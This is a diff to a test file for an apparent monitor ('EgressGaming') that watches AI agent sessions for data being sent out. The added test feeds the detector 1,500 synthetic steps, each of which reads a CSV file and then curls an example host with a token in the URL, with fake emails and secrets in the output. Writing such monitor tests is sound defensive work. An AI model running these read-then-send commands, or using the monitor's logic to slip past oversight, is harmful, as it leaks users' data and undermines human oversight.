@@ -5,6 +5,8 @@ authenticate a call are not its payload."""
 
 from __future__ import annotations
 
+import pickle
+
 from detectors.egress_gaming.detector import EgressGaming
 from detectors.testing import Session
 from models.records import Action, Alert, Step
@@ -221,3 +223,19 @@ def test_records_file_posted_without_people_read_is_quiet() -> None:
     call = s.call("bash", {"command": cmd})
     span = s.egress("https://api.llm-host.example/v1/chat", method="POST", parent=call)
     assert feed([*steps, call, span, s.result(call, result="ok")]) == []
+
+
+def test_taint_ledgers_stay_bounded_over_a_long_session() -> None:
+    s, steps = session()
+    detector = EgressGaming()
+    for step in steps:
+        detector.update(step)
+    for i in range(1500):
+        cmd = f"cat /srv/data{i}/part{i}.csv && curl 'https://h{i}.example/q?t=Ab{i}Cd9EfGh2IjKlMn'"
+        text = (
+            f"row {i}: person{i}@mail{i}.example and user{i}@corp{i}.example wrote this line\n"
+            f"secret_token = [REDACTED:api_key] at https://x{i}.example/p?sig=Zz{i}Yy8XxWw7VvUu\n"
+        )
+        for step in s.tool("bash", {"command": cmd}, result=text):
+            detector.update(step)
+    assert len(pickle.dumps(detector.state_dict())) < 64 * 1024
